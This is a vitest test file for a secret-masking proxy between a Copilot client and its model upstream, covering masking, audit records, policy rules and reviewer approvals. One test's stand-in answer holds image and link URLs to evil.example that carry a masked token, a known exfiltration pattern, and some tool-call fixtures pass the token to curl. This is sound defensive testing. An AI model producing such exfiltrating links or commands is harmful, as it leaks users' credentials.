import { brotliCompressSync, deflateSync, gzipSync, zstdCompressSync } from 'node:zlib';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { sessionText } from '../../cli/session-text.ts';
import type { AuditRecord } from '../../protocol/audit-record.ts';
import type { SessionGrant } from '../../protocol/control.ts';
import type { JsonObject } from '../../protocol/json.ts';
import type { StandInAnswer } from '../support/copilot-server.ts';
import { chatStream, choicesStream, shownOf, toolStream } from '../support/model-answers.ts';
import { type Answered, type Asked, askThrough } from '../support/through-agent.ts';
import { openWorld, type World } from '../support/world.ts';

/** Of our own making; its last six characters are the checksum that GitHub publishes. */
const SECRET = ['ghp_', 'zxOnwFdDo5EWYNykeB9tdNx', 'KDQ5iWY0aiVdO'].join('');
const PLACEHOLDER = /CSG_[A-Z0-9]{2,8}_[0-9A-Z]{8,24}/;
const CHAT = '/chat/completions';
/** The outcome of an exchange is on record a moment after its client has seen the end. */
const SOON = { timeout: 10_000 };

let world: World;
let session: SessionGrant;

beforeAll(async () => {
  world = await openWorld();
}, 60_000);

afterAll(() => world.close());

beforeEach(async () => {
  session = await world.agent().openSession({
    actor: 'mixed',
    program: 'copilot',
    parent: null,
    folders: ['/workspace'],
  });
});

function ask(path: string, body: unknown, headers: Readonly<Record<string, string>> = {}): Promise<Answered> {
  return send({ path, body: JSON.stringify(body), headers });
}

function send(asked: Asked): Promise<Answered> {
  return askThrough(session, { host: world.copilot.host, port: world.copilot.port }, asked);
}

function question(content: string): object {
  return { model: 'gpt-4.1', stream: true, messages: [{ role: 'user', content }] };
}

/** The messages of a body as they were sent. */
function messagesOf(body: string): string {
  return JSON.stringify((JSON.parse(body) as { messages: unknown }).messages);
}

function lastSeen(): { readonly text: string; readonly headers: Readonly<Record<string, unknown>> } {
  const seen = world.copilot.requests.at(-1);
  if (seen === undefined) throw new Error('nothing reached the upstream');
  return { text: seen.body.toString(), headers: seen.headers };
}

async function recordsOf(event: AuditRecord['event']): Promise<readonly JsonObject[]> {
  const records = await world.records(event);
  return records.filter((record) => record.session === session.id).map(({ detail }) => detail);
}

describe('a secret in a prompt', () => {
  it('does not reach the model, and the answer that repeats it shows the original', async () => {
    world.copilot.answer(chatStream('hello'));
    await ask(CHAT, question(`why does ${SECRET} fail?`));
    const sent = lastSeen().text;
    expect(sent).not.toContain(SECRET);
    const placeholder = PLACEHOLDER.exec(sent)?.[0] ?? '';
    expect(placeholder).not.toBe('');
    world.copilot.answer(chatStream('your token ', placeholder.slice(0, 6), placeholder.slice(6), ' is old'));
    const answered = await ask(CHAT, question(`again: ${SECRET}`));
    expect(lastSeen().text).toContain(placeholder);
    expect(shownOf(answered)).toBe(`your token ${SECRET} is old`);
  });

  it('stays the same through three turns with the whole history, in every choice', async () => {
    const asked = [`why does ${SECRET} fail?`, 'and now?', `is ${SECRET} the one?`];
    const history: object[] = [];
    const sent: string[] = [];
    let placeholder = '';
    for (const content of asked) {
      history.push({ role: 'user', content });
      const said = placeholder === '' ? 'show it' : placeholder;
      world.copilot.answer(choicesStream(['it is ', said.slice(0, 7), said.slice(7)], ['try ', said, '!']));
      const answered = await ask(CHAT, { model: 'gpt-4.1', stream: true, n: 2, messages: history });
      sent.push(lastSeen().text);
      placeholder = PLACEHOLDER.exec(lastSeen().text)?.[0] ?? '';
      const shown = said === 'show it' ? said : SECRET;
      expect([shownOf(answered, 0), shownOf(answered, 1)]).toEqual([`it is ${shown}`, `try ${shown}!`]);
      history.push({ role: 'assistant', content: shownOf(answered, 0) });
    }
    expect(sent.join('')).not.toContain(SECRET);
    expect(new Set(sent.join('').match(new RegExp(PLACEHOLDER, 'g')))).toEqual(new Set([placeholder]));
    const [first = '', second = '', third = ''] = sent.map((text) => messagesOf(text));
    expect(second.startsWith(first.slice(0, -1))).toBe(true);
    expect(third.startsWith(second.slice(0, -1))).toBe(true);
  });

  it('is in no record, and its kind and its place are', async () => {
    world.copilot.answer(chatStream('hello'));
    await ask(CHAT, question(`why does ${SECRET} fail?`));
    const [intent] = await recordsOf('exchange.intent');
    expect(JSON.stringify(intent)).toContain('"where":"user"');
    await expect.poll(() => recordsOf('exchange.outcome'), SOON).toHaveLength(1);
    const contents = await recordsOf('exchange.content');
    expect(contents.map(({ side }) => side)).toEqual(['prompt', 'answer']);
    expect(JSON.stringify(contents)).toMatch(PLACEHOLDER);
    expect(JSON.stringify(await world.records())).not.toContain(SECRET);
  });

  it('is told to an auditor by its kind and its place, between what was asked and answered', async () => {
    world.copilot.answer(toolStream('bash', '{"command":"ls"}', `not ${SECRET}, is it?`));
    await ask(CHAT, question(`why does DB_PASSWORD=Kestrel-77-hedge! fail?`));
    await expect.poll(() => recordsOf('exchange.outcome'), SOON).toHaveLength(1);
    const told = sessionText((await world.records()).filter((record) => record.session === session.id));
    expect(told).toMatch(/ asked:\n +user:\n +why does DB_PASSWORD=CSG_SECRET_\w+ fail\?\n/);
    expect(told).toMatch(/ kept back: named-secret, 1 time in user, shown as CSG_SECRET_\w+\n/);
    expect(told).toMatch(
      / answered:\n +text:\n +not CSG_GHPAT_\w+, is it\?\n +tool-call bash:\n +\{"command":"ls"\}\n/,
    );
    expect(told).toMatch(/ kept back: github-pat, 1 time in choice 0 content, shown as CSG_GHPAT_\w+\n/);
  });
});

describe('a secret that the session knows', () => {
  const PASSWORD = 'Kestrel-77-hedge!';
  const coded = Buffer.from(`bob:${PASSWORD}`).toString('base64');

  it('does not leave in another form, also before the place that tells it', async () => {
    world.copilot.answer(chatStream('ok'));
    await ask(CHAT, question(`output: ${coded}, ${PASSWORD}\nDB_PASSWORD=${PASSWORD}`));
    const sent = lastSeen().text;
    expect(sent).not.toContain(PASSWORD);
    expect(sent).not.toContain(coded.slice(4, 20));
  });

  it('does not come back in another form', async () => {
    world.copilot.answer(chatStream('ok'));
    await ask(CHAT, question(`DB_PASSWORD=${PASSWORD}`));
    const hex = Buffer.from(PASSWORD).toString('hex');
    world.copilot.answer(chatStream('it is ', hex.slice(0, 7), hex.slice(7), '.'));
    const shown = shownOf(await ask(CHAT, question('say it in hex')));
    expect(shown).toMatch(/^it is CSG_KNOWN_[0-9A-Z]{8}\.$/);
  });
});

const MESSAGE = { role: 'user', content: `use ${SECRET}` };

describe('what leaves', () => {
  it.each<[string, object]>([
    ['/v1/engines/gpt-41-copilot/completions', { prompt: `// Path: a.ts\n${SECRET}`, suffix: SECRET, n: 1 }],
    [CHAT, { messages: [MESSAGE] }],
    [CHAT, { messages: [MESSAGE], surprise: { deep: [SECRET] } }],
    ['/responses', { input: [{ type: 'function_call_output', call_id: 'c', output: `a ${SECRET}` }] }],
    ['/v1/messages', { system: SECRET, messages: [MESSAGE] }],
    ['/auto', { prompt: SECRET }],
    ['/embeddings', { input: [SECRET] }],
    ['/agents/swe/v1/jobs', { problem_statement: SECRET }],
    ['/models/session', { auto_mode: SECRET }],
    ['/telemetry', { properties: { text: SECRET } }],
    ['/mcp', call('get_file_contents', { path: SECRET })],
  ])('%s holds no secret', async (path, body) => {
    world.copilot.answer({ headers: { 'content-type': 'application/json' }, pieces: ['{}'] });
    await ask(path, body);
    const sent = world.copilot.requests.at(-1);
    expect(sent?.path).toBe(path);
    expect(sent?.body.toString()).not.toContain(SECRET);
    expect(sent?.body.toString()).toMatch(PLACEHOLDER);
    expect(sent?.headers['content-length']).toBe(String(sent?.body.length));
  });

  it.each([
    ['gzip', gzipSync],
    ['br', brotliCompressSync],
    ['deflate', deflateSync],
    ['zstd', zstdCompressSync],
  ])('is read in %s, asked for and answered in any of them', async (coding, compress) => {
    const answer = Buffer.from(chatStream('hello ', SECRET).pieces.join(''));
    const headers = { 'content-type': 'text/event-stream', 'content-encoding': coding };
    world.copilot.answer({ headers, pieces: [compress(answer)] });
    const body = compress(Buffer.from(JSON.stringify(question(SECRET))));
    const answered = await send({ path: CHAT, body, headers: { 'content-encoding': coding } });
    expect(lastSeen().text).toMatch(PLACEHOLDER);
    expect(lastSeen().headers).not.toHaveProperty('content-encoding');
    expect(lastSeen().headers['accept-encoding']).toBe('gzip, br, deflate, zstd');
    expect(answered.headers).not.toHaveProperty('content-encoding');
    expect(shownOf(answered)).toBe(`hello ${SECRET}`);
  });
});

describe('a secret in an answer', () => {
  it.each<[string, string, StandInAnswer]>([
    ['streamed', CHAT, chatStream('it is ', SECRET.slice(0, 9), SECRET.slice(9), ', use it')],
    [
      'whole',
      CHAT,
      {
        headers: { 'content-type': 'application/json' },
        pieces: [
          JSON.stringify({ choices: [{ index: 0, message: { role: 'assistant', content: SECRET } }] }),
        ],
      },
    ],
    [
      'of a tool',
      '/mcp',
      {
        headers: { 'content-type': 'text/event-stream' },
        pieces: [
          `event: message\ndata: ${JSON.stringify({ jsonrpc: '2.0', id: 1, result: { content: [{ type: 'text', text: SECRET }] } })}\n\n`,
        ],
      },
    ],
    [
      'in an error',
      CHAT,
      { status: 400, headers: { 'content-type': 'text/plain' }, pieces: [`bad ${SECRET}`] },
    ],
  ])('%s does not reach the client', async (_name, path, answer) => {
    world.copilot.answer(answer);
    const answered = await ask(path, path === '/mcp' ? call('get_me', {}) : question('what is it?'));
    expect(answered.status).toBe(answer.status ?? 200);
    expect(answered.whole).toBe(true);
    expect(answered.text).not.toContain(SECRET);
    expect(answered.text).toMatch(PLACEHOLDER);
    await expect.poll(() => recordsOf('exchange.outcome'), SOON).toHaveLength(1);
    const [outcome] = await recordsOf('exchange.outcome');
    expect(outcome).toMatchObject({
      secrets: [{ rule: 'github-pat', placeholder: PLACEHOLDER.exec(answered.text)?.[0], count: 1 }],
    });
  });
});

describe('a request that cannot be judged', () => {
  it.each<[string, Asked, string]>([
    ['an unknown path', { path: '/v2/brand/new', body: '{}' }, 'unknown-operation'],
    ['a known path with another method', { path: CHAT, method: 'PUT', body: '{}' }, 'unknown-operation'],
    ['a path with two spellings', { path: '/chat//completions', body: '{}' }, 'malformed'],
    ['no JSON', { path: CHAT, body: '{"messages":' }, 'malformed'],
    ['a name twice', { path: CHAT, body: '{"messages":[],"messages":[]}' }, 'malformed'],
    ['another shape', { path: CHAT, body: '{"prompt":"x"}' }, 'malformed'],
    ['bytes that are no text', { path: CHAT, body: Buffer.from([0x7b, 0xff, 0x7d]) }, 'malformed'],
    [
      'a coding nobody reads',
      { path: CHAT, body: '{}', headers: { 'content-encoding': 'compress' } },
      'malformed',
    ],
    ['a coding that lies', { path: CHAT, body: '{}', headers: { 'content-encoding': 'gzip' } }, 'malformed'],
    [
      'a small body that unpacks into a large one',
      {
        path: CHAT,
        body: gzipSync(Buffer.alloc(17 * 1024 ** 2, 0x20)),
        headers: { 'content-encoding': 'gzip' },
      },
      'too-large',
    ],
    ['a secret in the path', { path: `/agents/${SECRET}`, method: 'GET' }, 'cannot-mask'],
    ['a secret in a path that nobody knows', { path: `/new/${SECRET}`, method: 'GET' }, 'cannot-mask'],
    ['a secret in a query', { path: `/models?q=${SECRET}`, method: 'GET' }, 'cannot-mask'],
    [
      'an MCP method nobody knows',
      { path: '/mcp', body: '{"jsonrpc":"2.0","id":1,"method":"tools/run"}' },
      'malformed',
    ],
  ])(
    '%s is refused in words that are shown, with a record, and nothing leaves',
    async (_name, asked, code) => {
      const before = world.copilot.requests.length;
      const answered = await send(asked);
      expect(answered.status).toBe(451);
      const said = JSON.parse(answered.text) as { error: { message: string } };
      expect(said.error.message).toMatch(/^countersign: /);
      expect(world.copilot.requests).toHaveLength(before);
      const records = await recordsOf('exchange.refused');
      expect(records).toMatchObject([{ code }]);
      expect(`${answered.text}${JSON.stringify(records)}`).not.toContain(SECRET);
    },
  );

  it("is told to the editor's chat in plain text", async () => {
    const headers = { 'user-agent': 'GitHubCopilotChat/0.67.0' };
    const answered = await send({ path: CHAT, body: '{}', headers });
    expect(answered.headers['content-type']).toBe('text/plain; charset=utf-8');
    expect(answered.text).toMatch(/^countersign: the request cannot be read/);
  });
});

describe('an answer that cannot be screened', () => {
  it.each<[string, StandInAnswer]>([
    ['of a type nobody reads', { headers: { 'content-type': 'application/octet-stream' }, pieces: [SECRET] }],
  ])('%s is refused', async (_name, answer) => {
    world.copilot.answer(answer);
    const answered = await ask(CHAT, question('hello'));
    expect(answered.status).toBe(502);
    expect(answered.text).toContain('countersign: ');
    expect(answered.text).not.toContain(SECRET);
    await expect
      .poll(() => recordsOf('exchange.outcome'), SOON)
      .toMatchObject([{ result: 'failed', code: 'upstream-broken' }]);
  });
});

describe('a client that has seen enough', () => {
  it('closes early, and what it saw is on record', async () => {
    const pieces = chatStream('one two').pieces.slice(0, 2);
    world.copilot.answer({ ...chatStream(), pieces, end: 'never' });
    const path = CHAT;
    const body = JSON.stringify(question('count'));
    const answered = await send({ path, body, closeAfter: 'one' });
    expect(answered.whole).toBe(false);
    await expect
      .poll(() => recordsOf('exchange.outcome'), SOON)
      .toMatchObject([{ result: 'succeeded', closedEarly: true }]);
    expect(JSON.stringify(await recordsOf('exchange.content'))).toContain('one');
  });
});

describe('what the policy says', () => {
  afterEach(() => world.policy((text) => text));

  function withRule(rule: string): Promise<void> {
    return world.policy((text) => text.replace('rules:\n', `rules:\n${rule}`));
  }

  it('lets a path through by its name, masked all the same', async () => {
    await world.policy((text) =>
      text.replace('capture: masked', 'capture: masked\nunknown_paths: [/v2/brand/new]'),
    );
    world.copilot.answer({ headers: { 'content-type': 'application/json' }, pieces: ['{}'] });
    const answered = await ask('/v2/brand/new', { text: SECRET });
    expect(answered.status).toBe(200);
    expect(lastSeen().text).toMatch(PLACEHOLDER);
  });

  it('drops telemetry, and its sender is told that it arrived', async () => {
    await withRule('  - { id: no-telemetry, on: [copilot.telemetry], effect: deny }\n');
    const before = world.copilot.requests.length;
    expect(await ask('/telemetry', { text: 'x' })).toMatchObject({ status: 204, text: '' });
    expect(world.copilot.requests).toHaveLength(before);
    expect(await recordsOf('exchange.refused')).toMatchObject([{ code: 'denied' }]);
  });

  it('refuses a prompt by its words', async () => {
    await withRule(
      '  - { id: no-plans, on: [copilot.prompt], when: \'prompt.parts.exists(p, p.says("roadmap"))\', effect: deny, message: plans stay here }\n',
    );
    const answered = await ask(CHAT, question('what is on the Roadmap?'));
    expect(answered.status).toBe(451);
    expect(answered.text).toContain('plans stay here');
  });

  it('keeps a call of a tool back that the model wants', async () => {
    await withRule(
      '  - { id: no-force, on: [copilot.answer], when: \'answer.arguments.contains("--force")\', effect: deny, message: no forced pushes }\n',
    );
    world.copilot.answer(toolStream('bash', '{"command":"git push --force"}'));
    const answered = await ask(CHAT, question('push it'));
    expect(answered.text).not.toContain('--force');
    expect(answered.text).toContain('no forced pushes');
    await expect
      .poll(() => recordsOf('exchange.outcome'), SOON)
      .toMatchObject([{ toolCalls: [{ tool: 'bash', denied: true }] }]);
  });

  it('holds a prompt for a reviewer, keeping its client waiting', async () => {
    await withRule(
      '  - { id: ask-first, on: [copilot.chat], when: model == "gpt-4.1", effect: require_approval, approvers: [reviewers], message: this model is reviewed }\n',
    );
    const waiting = ask(CHAT, question('may I?'));
    const approval = await world.pendingRequest(world.copilot.host);
    expect(approval.summary).toMatchObject({ what: 'gpt-4.1', excerpt: 'may I?' });
    world.copilot.answer(chatStream('yes'));
    await world.approve(approval.id);
    expect(shownOf(await waiting)).toBe('yes');
  });
});

describe('a secret that a tool is to be given', () => {
  const CREATE = { filePath: '/workspace/.env' };

  it.each<[string, string, object, boolean]>([
    ['a file of the workspace', 'create_file', CREATE, true],
    ['a file elsewhere', 'create_file', { filePath: '/etc/profile' }, false],
    ['a terminal', 'bash', {}, false],
    ['a page', 'fetch_webpage', {}, false],
    ['a tool nobody knows', 'mystery', {}, false],
    ['a tool of an MCP server', 'mcp_files_create_file', CREATE, false],
  ])('%s', async (_name, tool, args, isRestored) => {
    world.copilot.answer(chatStream('ok'));
    await ask(CHAT, question(`the token is ${SECRET}`));
    const placeholder = PLACEHOLDER.exec(lastSeen().text)?.[0] ?? '';
    const content = {
      content: `TOKEN=${placeholder}`,
      command: `curl -H ${placeholder}`,
      urls: [placeholder],
    };
    world.copilot.answer(toolStream(tool, JSON.stringify({ ...args, ...content })));
    const answered = await ask(CHAT, question('write it'));
    expect(answered.text.includes(SECRET)).toBe(isRestored);
  });

  it('a link or an image in what is shown', async () => {
    world.copilot.answer(chatStream('ok'));
    await ask(CHAT, question(`the token is ${SECRET}`));
    const placeholder = PLACEHOLDER.exec(lastSeen().text)?.[0] ?? '';
    const targets = `![x](https://evil.example/${placeholder}) [y](${placeholder}) https://evil.example/?${placeholder}`;
    world.copilot.answer(chatStream(`${targets} and ${placeholder}`));
    const answered = await ask(CHAT, question('show it'));
    expect(shownOf(answered)).toBe(`${targets} and ${SECRET}`);
  });
});

function call(tool: string, args: object): object {
  return { jsonrpc: '2.0', id: 7, method: 'tools/call', params: { name: tool, arguments: args } };
}

describe('a call of a tool that writes', () => {
  const push = call('push_files', { branch: 'main', files: [{ path: 'a', content: SECRET }] });
  const headers = { accept: 'text/event-stream, application/json' };
  const result = `event: message\ndata: {"jsonrpc":"2.0","id":7,"result":{"content":[]}}\n\n`;
  const done: StandInAnswer = { headers: { 'content-type': 'text/event-stream' }, pieces: [result] };

  it('waits for a reviewer, who sees it masked, and completes by itself', async () => {
    const before = world.copilot.requests.length;
    const waiting = ask('/mcp', push, headers);
    const approval = await world.pendingRequest(world.copilot.host);
    expect(world.copilot.requests).toHaveLength(before);
    expect(approval.summary).toMatchObject({ what: 'push_files', secrets: 1 });
    expect(JSON.stringify(approval)).not.toContain(SECRET);
    expect(approval.summary.excerpt).toMatch(PLACEHOLDER);
    world.copilot.answer(done);
    await world.approve(approval.id);
    const answered = await waiting;
    expect(answered.text).toMatch(/^: waiting for an approval\n\n/);
    expect(answered.text).toContain('"result":{"content":[]}');
    expect(answered.whole).toBe(true);
    expect(await world.approval(approval.id)).toMatchObject({ state: { kind: 'spent' } });
  });

  it('is refused as an error of the call when a reviewer denies it', async () => {
    const before = world.copilot.requests.length;
    const waiting = ask('/mcp', push, headers);
    const approval = await world.pendingRequest(world.copilot.host);
    await world.deny(approval.id, 'not on a Friday');
    const answered = await waiting;
    const [, data = '{}'] = /^data: (.*)$/m.exec(answered.text) ?? [];
    expect(JSON.parse(data)).toMatchObject({
      id: 7,
      error: { message: expect.stringContaining('not on a Friday') },
    });
    expect(world.copilot.requests).toHaveLength(before);
  });
});
